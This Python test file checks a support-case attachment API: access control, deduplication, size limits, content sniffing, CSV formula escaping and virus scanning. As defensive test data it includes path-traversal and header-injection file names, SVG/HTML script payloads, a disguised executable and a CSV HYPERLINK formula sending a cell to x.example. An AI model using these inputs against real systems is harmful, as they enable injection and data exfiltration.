"""Files of support cases: own ones and those that staff share, recognised by their content, bounded, attached once."""

import asyncio
import base64
from collections.abc import AsyncIterator
from typing import Any

import httpx
import msgspec
import pytest

from app.commands.support.attach_to_case import LARGEST_BYTES
from app.settings import Settings
from tests.http.routes.test_account import customers, linked
from tests.http.support_cases import api, hana, held, kenji, opened
from tests.integrations.clamd import Clamd, listening

__all__ = ["api", "hana", "kenji"]

PICTURE = b"\x89PNG\r\n\x1a\n" + bytes(range(256))


@pytest.fixture
async def case_id(api: httpx.AsyncClient, hana: dict[str, str]) -> str:
    return str((await opened(api, hana))["case_id"])


async def attach(
    api: httpx.AsyncClient, headers: dict[str, str], case_id: str, content: bytes = PICTURE, name: str = "router.png"
) -> httpx.Response:
    body = {"name": name, "content": base64.b64encode(content).decode()}
    return await api.post(f"/api/cases/{case_id}/attachments", json=body, headers=headers)


async def by_staff(sandbox: Any, case_id: str, visibility: str) -> str:
    """Put a file on the case as staff do, and return its document's id."""
    version = {
        "Title": f"for {visibility}",
        "PathOnClient": "notes.pdf",
        "VersionData": base64.b64encode(b"%PDF-1.7 notes").decode(),
    }
    made = (await sandbox.control.post("/salesforce/ContentVersion", json=version)).json()
    link = {
        "ContentDocumentId": made["ContentDocumentId"],
        "LinkedEntityId": case_id,
        "ShareType": "V",
        "Visibility": visibility,
    }
    (await sandbox.control.post("/salesforce/ContentDocumentLink", json=link)).raise_for_status()
    return str(made["ContentDocumentId"])


async def test_what_is_attached_is_listed_and_read_back_to_the_byte(
    api: httpx.AsyncClient, hana: dict[str, str], case_id: str
) -> None:
    answer = await attach(api, hana, case_id)
    assert answer.status_code == 201, answer.text
    (shown,) = answer.json()["attachments"]
    assert (shown["name"], shown["size_bytes"]) == ("router.png", len(PICTURE))
    read = await api.get(f"/api/cases/{case_id}/attachments/{shown['attachment_id']}", headers=hana)
    assert (read.status_code, read.content) == (200, PICTURE)
    assert read.headers["content-type"] == "image/png"
    assert read.headers["content-disposition"] == "attachment; filename*=UTF-8''router.png"
    assert (read.headers["cache-control"], read.headers["x-content-type-options"]) == ("private, no-store", "nosniff")


async def test_the_same_bytes_are_attached_once_whatever_they_are_called(
    api: httpx.AsyncClient, sandbox: Any, hana: dict[str, str], case_id: str
) -> None:
    answers = [await attach(api, hana, case_id, name=name) for name in ("a.png", "b.png")]
    assert [answer.status_code for answer in answers] == [201, 201]
    assert len(await held(sandbox, "ContentVersion")) == 1


async def test_a_file_that_was_written_and_not_confirmed_is_found(
    api: httpx.AsyncClient, sandbox: Any, hana: dict[str, str], case_id: str
) -> None:
    await sandbox.fault("salesforce", "timeout_after_write", operation="sobjects.create:ContentVersion")
    answer = await attach(api, hana, case_id)
    assert answer.status_code == 201, answer.text
    assert len(await held(sandbox, "ContentVersion")) == 1


async def test_what_staff_share_is_shown_and_what_they_keep_is_not(
    api: httpx.AsyncClient, sandbox: Any, hana: dict[str, str], case_id: str
) -> None:
    shared, kept = [await by_staff(sandbox, case_id, each) for each in ("AllUsers", "InternalUsers")]
    listed = (await api.get(f"/api/cases/{case_id}", headers=hana)).json()["attachments"]
    assert [(each["attachment_id"], each["name"]) for each in listed] == [(shared, "for AllUsers.pdf")]
    read = await api.get(f"/api/cases/{case_id}/attachments/{shared}", headers=hana)
    assert (read.content, read.headers["content-type"]) == (b"%PDF-1.7 notes", "application/pdf")
    refused = await api.get(f"/api/cases/{case_id}/attachments/{kept}", headers=hana)
    assert (refused.status_code, refused.json()["code"]) == (404, "attachment_not_found")


async def test_a_file_is_reached_through_its_own_case_of_its_own_account_alone(
    api: httpx.AsyncClient, sandbox: Any, hana: dict[str, str], kenji: dict[str, str], case_id: str
) -> None:
    file_id = (await attach(api, hana, case_id)).json()["attachments"][0]["attachment_id"]
    other = (await opened(api, hana, subject="Something else"))["case_id"]
    his = (await opened(api, kenji))["case_id"]
    for headers, where, code in (
        (hana, other, "attachment_not_found"),
        (kenji, his, "attachment_not_found"),
        (kenji, case_id, "case_not_found"),
    ):
        answer = await api.get(f"/api/cases/{where}/attachments/{file_id}", headers=headers)
        assert (answer.status_code, answer.json()["code"]) == (404, code)
    assert (await attach(api, kenji, case_id)).json()["code"] == "case_not_found"
    assert len(await held(sandbox, "ContentVersion")) == 1


@pytest.mark.parametrize(
    ("content", "name", "kept"),
    [
        (b"\xff\xd8\xff\xe0 jpeg", "photo.JPEG", "photo.jpeg"),
        (b"%PDF-1.4", "../../etc/passwd", "passwd.pdf"),
        (b"<svg onload='alert(1)'/>", "drawing.svg", "drawing.svg.txt"),
        (b"<html><script>alert(1)</script>", "page.html", "page.html.txt"),
        ("ルーター".encode(), "メモ.txt", "メモ.txt"),
        ("全角の\u3000空白と\u00a0👩\u200d🔧".encode(), "全角.txt", "全角.txt"),
        (PICTURE, 'a"\r\nSet-Cookie: x=1.png', "a_ Set-Cookie_ x_1.png"),
        (PICTURE, "invoice.exe", "invoice.exe.png"),
    ],
)
async def test_the_name_is_nothing_but_a_name_and_its_ending_is_the_contents(
    api: httpx.AsyncClient, hana: dict[str, str], case_id: str, content: bytes, name: str, kept: str
) -> None:
    answer = await attach(api, hana, case_id, content, name)
    assert [each["name"] for each in answer.json()["attachments"]] == [kept]


@pytest.mark.parametrize(
    "content", [b"MZ\x90\x00 a program", b"PK\x03\x04 an archive", b"\x00\x01\x02", b"\xff\xfe", "\u202etxt".encode()]
)
async def test_what_is_no_picture_pdf_or_text_is_refused_whatever_it_is_called(
    api: httpx.AsyncClient, sandbox: Any, hana: dict[str, str], case_id: str, content: bytes
) -> None:
    answer = await attach(api, hana, case_id, content, "harmless.png")
    assert (answer.status_code, answer.json()["code"]) == (422, "attachment_type_not_allowed")
    assert await held(sandbox, "ContentVersion") == []


async def test_files_are_bounded_in_size_and_number(
    api: httpx.AsyncClient, sandbox: Any, hana: dict[str, str], case_id: str
) -> None:
    largest = PICTURE + bytes(5 * 1024 * 1024 - len(PICTURE))
    assert (await attach(api, hana, case_id, largest)).status_code == 201
    assert (await attach(api, hana, case_id, largest + b"\0")).status_code == 400
    assert (await attach(api, hana, case_id, largest + bytes(10_000))).status_code == 413
    assert (await attach(api, hana, case_id, b"")).status_code == 400
    for number in range(19):
        assert (await attach(api, hana, case_id, f"note {number}".encode(), "note.txt")).status_code == 201
    answer = await attach(api, hana, case_id, b"one more", "note.txt")
    assert (answer.status_code, answer.json()["code"]) == (422, "too_many_attachments")


async def test_a_file_too_large_to_be_shown_is_named_and_not_read(
    api: httpx.AsyncClient, sandbox: Any, hana: dict[str, str], case_id: str
) -> None:
    huge = {
        "PathOnClient": "video.mp4",
        "VersionData": base64.b64encode(bytes(10 * 1024 * 1024 + 1)).decode(),
    }
    made = (await sandbox.control.post("/salesforce/ContentVersion", json=huge)).json()
    link = {"ContentDocumentId": made["ContentDocumentId"], "LinkedEntityId": case_id, "Visibility": "AllUsers"}
    await sandbox.control.post("/salesforce/ContentDocumentLink", json=link)
    answer = await api.get(f"/api/cases/{case_id}/attachments/{made['ContentDocumentId']}", headers=hana)
    assert (answer.status_code, answer.json()["code"]) == (413, "attachment_too_large")
    asked = [each["operation"] for each in await sandbox.calls("salesforce")]
    assert not any("get:ContentVersion" in each for each in asked)


async def test_a_closed_case_takes_no_files(
    api: httpx.AsyncClient, sandbox: Any, hana: dict[str, str], case_id: str
) -> None:
    await sandbox.control.patch(f"/salesforce/Case/{case_id}", json={"Status": "Closed"})
    assert (await attach(api, hana, case_id)).json()["code"] == "case_closed"


async def test_while_salesforce_is_down_files_are_a_problem_too(
    api: httpx.AsyncClient, sandbox: Any, hana: dict[str, str], case_id: str
) -> None:
    file_id = (await attach(api, hana, case_id)).json()["attachments"][0]["attachment_id"]
    await sandbox.fault("salesforce", "down", count=None)
    for answer in (
        await attach(api, hana, case_id, b"another", "a.txt"),
        await api.get(f"/api/cases/{case_id}/attachments/{file_id}", headers=hana),
    ):
        assert (answer.status_code, answer.json()["code"]) == (503, "support_unavailable")


async def test_formulas_in_a_table_are_escaped(
    api: httpx.AsyncClient, sandbox: Any, hana: dict[str, str], case_id: str
) -> None:
    table = b'name,number\r\nHana,=HYPERLINK("http://x.example?"&A1)\r\n"\t=1","+81 90"\r\n'
    shown = (await attach(api, hana, case_id, table, "bills.csv")).json()["attachments"]
    read = await api.get(f"/api/cases/{case_id}/attachments/{shown[0]['attachment_id']}", headers=hana)
    assert read.text == 'name,number\r\nHana,\'=HYPERLINK("http://x.example?"&A1)\r\n"\'\t\'=1","\'+81 90"\r\n'
    again = await attach(api, hana, case_id, table, "bills.csv")
    assert (again.status_code, len(await held(sandbox, "ContentVersion"))) == (201, 1)
    plain = await attach(api, hana, case_id, b"=1+1 is what I typed", "note.txt")
    listed = plain.json()["attachments"]
    note = next(each for each in listed if each["name"] == "note.txt")
    read = await api.get(f"/api/cases/{case_id}/attachments/{note['attachment_id']}", headers=hana)
    assert read.text == "=1+1 is what I typed"


async def test_what_is_wrong_with_a_large_body_is_told_without_reading_all_of_it_again(
    api: httpx.AsyncClient, hana: dict[str, str], case_id: str
) -> None:
    path, headers = f"/api/cases/{case_id}/attachments", {**hana, "content-type": "application/json"}
    members = b"{" + b",".join(b'"%d":0' % number for number in range(500_000)) + b"}"
    for content, code, field in (
        (msgspec.json.encode({"name": "a.png", "content": bytes(LARGEST_BYTES + 1)}), "field_too_long", "content"),
        (msgspec.json.encode({"name": "a" * 300, "content": bytes(LARGEST_BYTES)}), "field_too_long", "name"),
        (b"[" + b"{}," * 2_000_000 + b"{}]", "wrong_type", ""),
        (members, "invalid_value", ""),
    ):
        answer = await api.post(path, content=content, headers=headers)
        assert answer.status_code == 400
        assert [(each["code"], each["field"]) for each in answer.json()["errors"]] == [(code, field)]


async def test_a_large_table_keeps_nobody_waiting(api: httpx.AsyncClient, hana: dict[str, str], case_id: str) -> None:
    """Five megabytes of formulas, which take the processor for seconds."""
    clock = asyncio.get_running_loop().time
    attaching, longest_seconds, seen_at = (
        asyncio.create_task(attach(api, hana, case_id, b",=" * (LARGEST_BYTES // 2), "a.csv")),
        0.0,
        clock(),
    )
    while not attaching.done():
        await asyncio.sleep(0.01)
        longest_seconds, seen_at = max(longest_seconds, clock() - seen_at), clock()
    assert (await attaching).status_code == 201
    assert longest_seconds < 2


@pytest.fixture
async def clamd() -> AsyncIterator[Clamd]:
    async with listening() as made:
        yield made


@pytest.fixture
async def scanned(
    serve: Any, sandbox_settings: Settings, clamd: Clamd, sandbox: Any
) -> AsyncIterator[httpx.AsyncClient]:
    """An API whose scanner is `clamd`."""
    asking = msgspec.structs.replace(sandbox_settings, attachment_scanner=clamd.address, attachment_scan_seconds=1.0)
    async with serve(asking) as client:
        yield client


async def test_an_infected_file_is_refused_and_stored_nowhere(
    scanned: httpx.AsyncClient, clamd: Clamd, sandbox: Any
) -> None:
    hana = await linked(scanned, customers(sandbox)[0])
    case_id = str((await opened(scanned, hana))["case_id"])
    clamd.known[b"evil"] = "Test.Evil"
    refused = await attach(scanned, hana, case_id, PICTURE + b"evil")
    assert (refused.status_code, refused.json()["code"]) == (422, "attachment_infected")
    assert "Test.Evil" not in refused.text
    assert await held(sandbox, "ContentVersion") == []
    assert (await attach(scanned, hana, case_id)).status_code == 201
    assert clamd.scanned == [PICTURE + b"evil", PICTURE]


@pytest.mark.parametrize("answer", [None, b"stream: ERROR\0"])
async def test_while_the_scanner_judges_nothing_no_file_is_stored(
    scanned: httpx.AsyncClient, clamd: Clamd, sandbox: Any, answer: bytes | None
) -> None:
    hana = await linked(scanned, customers(sandbox)[0])
    case_id = str((await opened(scanned, hana))["case_id"])
    clamd.answer = answer
    refused = await attach(scanned, hana, case_id)
    assert (refused.status_code, refused.json()["code"]) == (503, "scanner_unavailable")
    assert int(refused.headers["retry-after"]) > 0
    assert await held(sandbox, "ContentVersion") == []
